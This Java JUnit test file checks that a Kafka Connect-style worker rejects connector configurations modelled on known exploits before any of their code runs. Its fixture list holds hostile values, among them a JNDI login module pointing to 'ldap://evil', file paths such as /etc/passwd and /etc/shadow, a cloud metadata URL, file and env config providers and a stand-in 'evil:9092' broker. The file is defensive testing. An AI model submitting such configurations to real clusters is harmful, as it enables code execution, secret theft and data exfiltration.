package dev.daybook.connect;

import static dev.daybook.connect.scene.Scene.source;
import static dev.daybook.connect.scene.Scene.unique;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.daybook.connect.scene.Reply;
import dev.daybook.connect.scene.TestLog;
import dev.daybook.connect.scene.TestWorker;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Configurations shaped like known exploits are refused at PUT and at validate, before any of their code runs.
class UnsafeConfigTest {

  /// Sets a flag when it is initialized: nothing may ever do that.
  public static final class Payload {
    static {
      System.setProperty("daybook.test.payload", "ran");
    }
  }

  @SuppressWarnings("NullAway.Init")
  private static TestLog log;

  @SuppressWarnings("NullAway.Init")
  private static TestWorker worker;

  @BeforeAll
  static void start() {
    log = TestLog.start();
    worker = TestWorker.start(log.bootstrapServers(), unique("unsafe"), config -> config);
  }

  @AfterAll
  static void stop() {
    worker.close();
    log.close();
  }

  static List<Map<String, String>> exploits() {
    String jndi =
        "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil\" useFirstPass=\"true\";";
    return List.of(
        Map.of("producer.override.sasl.jaas.config", jndi), // CVE-2023-25194
        Map.of("schema.history.internal.producer.sasl.jaas.config", jndi),
        Map.of(
            "sasl.jaas.config",
            "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"a;b\" password=\"c\";"
                + jndi),
        Map.of(
            "producer.override.sasl.jaas.config",
            "com.sun.security.auth.module.LdapLoginModule required;"), // CVE-2025-27818
        Map.of(
            "producer.override.sasl.oauthbearer.token.endpoint.url",
            "file:///etc/passwd"), // CVE-2025-27817
        Map.of("database.sasl.oauthbearer.jwks.endpoint.url", "http://169.254.169.254/"),
        Map.of(
            "config.providers",
            "file",
            "config.providers.file.class",
            "org.apache.kafka.common.config.provider.FileConfigProvider"), // CVE-2024-31141
        Map.of("producer.override.config.providers", "env"),
        Map.of("producer.override.bootstrap.servers", "evil:9092"),
        Map.of("producer.override.interceptor.classes", Payload.class.getName()),
        Map.of("producer.override.ssl.keystore.location", "/etc/shadow"),
        Map.of("producer.override.enable.idempotence", "false"),
        Map.of("helper.class", "javax.script.ScriptEngineManager"),
        Map.of("key.converter", Payload.class.getName()),
        Map.of("transforms", "t", "transforms.t.type", Payload.class.getName()),
        Map.of("exactly.once.support", "required"));
  }

  @ParameterizedTest
  @MethodSource("exploits")
  void isRefusedAtPutAndAtValidate(Map<String, String> exploit) {
    Map<String, String> config = source("t");
    config.putAll(exploit);
    Reply put = worker.put("/connectors/exploit/config", config);
    assertEquals(400, put.status(), put.text());
    Reply validation =
        worker.put(
            "/connector-plugins/dev.daybook.connect.scene.ScriptedSource/config/validate", config);
    assertEquals(200, validation.status());
    assertTrue(validation.json().path("error_count").asInt() > 0, validation.text());
    assertEquals(404, worker.get("/connectors/exploit").status());
    assertFalse(System.getProperties().containsKey("daybook.test.payload"), "its code ran");
  }

  @Test
  void tuningAConnectorsOwnClientsIsFine() {
    String name = unique("tuned");
    Map<String, String> config = source(name);
    config.put("producer.override.linger.ms", "5");
    config.put("producer.override.compression.type", "zstd");
    config.put("helper.class", "dev.daybook.connect.scene.Stage");
    assertEquals(201, worker.create(name, config).status());
    worker.awaitTask(name, 0, "RUNNING");
    worker.delete("/connectors/" + name);
  }
}
